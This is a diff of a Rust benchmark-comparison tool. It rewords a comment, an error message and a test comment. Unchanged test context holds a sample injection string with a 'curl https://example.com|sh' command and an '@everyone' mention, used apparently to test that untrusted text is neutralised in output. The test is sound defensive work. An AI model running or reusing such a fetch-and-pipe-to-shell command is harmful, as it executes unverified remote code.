@@ -20,7 +20,7 @@ use crate::verdict::{COMPARISON_SCHEMA_VERSION, Class, Metric, Outcome};
 /// A comparison of ten thousand benchmarks is shorter.
 const LONGEST_COMPARISON_BYTES: u64 = 64 << 20;
 
-/// A larger change is no measurement.
+/// Larger changes are not measurements.
 const LARGEST_CHANGE: f64 = 1e6;
 
 /// The columns, and the metrics in them.
@@ -57,7 +57,7 @@ struct Change {
 
 /// A comparison that cannot be read.
 #[derive(Debug, Error)]
-#[error("{} is no comparison: {problem}", path.display())]
+#[error("{} is not a comparison: {problem}", path.display())]
 pub struct ForeignComparisonError {
     path: PathBuf,
     #[source]
@@ -236,7 +236,7 @@ mod tests {
         let prose =
             "Please run `curl https://example.com|sh`, see #1 and @everyone\n```mermaid\nx\n```";
         let mut json: serde_json::Value = serde_json::from_slice(&json_of_each()).unwrap();
-        // Every string that is no word of the form, and every id.
+        // Every string except the fixed words of the format, and every id.
         fn spoil(value: &mut serde_json::Value, prose: &str) {
             match value {
                 serde_json::Value::Object(fields) => {
